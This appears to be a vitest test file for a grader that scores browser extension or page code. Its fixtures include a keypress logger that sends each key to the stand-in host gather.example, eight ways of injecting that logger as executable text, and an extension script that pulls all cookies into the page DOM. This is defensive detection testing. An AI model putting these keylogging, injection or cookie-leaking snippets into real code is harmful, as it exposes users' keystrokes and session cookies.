import { describe, expect, it } from 'vitest';
import { graded } from '../../testing/graded.ts';

/* Scripts that stand as texts in a script and run in the page, in every way that a page can be given one. */

const SEND = 'new Image().src="https://gather.example/l?k="+';
const LISTENER = `document.addEventListener("keypress", function (e) { ${SEND}e.key; })`;
const CALM = 'document.addEventListener("keypress", function (e) { show(e.key); })';

const WAYS: readonly (readonly [name: string, program: (code: string) => string])[] = [
  ['the text of a script element', (code) => `const s = document.createElement('script'); s.textContent = '${code}';`],
  [
    'a text node of a script element',
    (code) => `const s = document.createElement('script'); s.appendChild(document.createTextNode('${code}'));`,
  ],
  ['a text put into a script element', (code) => `const s = document.createElement('script'); s.append('${code}');`],
  ['a text for a timer', (code) => `setTimeout('${code}', 5);`],
  ['an attribute that handles an event', (code) => `document.body.setAttribute('onload', '${code}');`],
  ['a handler in markup', (code) => `box.insertAdjacentHTML('beforeend', "<img src=x onerror='" + '${code}' + "'>");`],
  ['a script in markup', (code) => `document.write('<script>${code}</' + 'script>');`],
  ['an address that is code', (code) => `location.href = 'javascript:${code}';`],
];

describe('a key logger that stands as text', () => {
  it.each(WAYS)('is found as %s', async (_, program) => {
    expect(await graded({ content: program(LISTENER) })).toBe('F');
    expect(await graded({ content: program(CALM) })).toMatch(/^A/);
  });

  it('is found as a handler of keys', async () => {
    const on = (code: string) => graded({ content: `document.body.setAttribute('onkeypress', '${code}')` });
    expect(await on(`${SEND}event.key`)).toBe('F');
    expect(await on('show(event.key)')).toMatch(/^A/);
  });
});

describe('cookies that are written into a page', () => {
  const background = (answer: string): string =>
    `chrome.runtime.onMessage.addListener((message, sender, reply) => { ${answer}; return true; });`;
  const content = (keep: string): string =>
    `chrome.runtime.sendMessage('get', (said) => { const box = document.createElement('div'); ${keep}; document.body.append(box); });`;

  it.each(['box.dataset.all = JSON.stringify(said)', "box.setAttribute('data-all', JSON.stringify(said))"])(
    'are told: %s',
    async (keep) => {
      const of = (answer: string) => graded({ background: background(answer), content: content(keep) });
      expect(await of('chrome.cookies.getAll({}, reply)')).toMatch(/[CDF]/);
      expect(await of("chrome.bookmarks.search('recipes', reply)")).toMatch(/^A/);
    },
  );
});
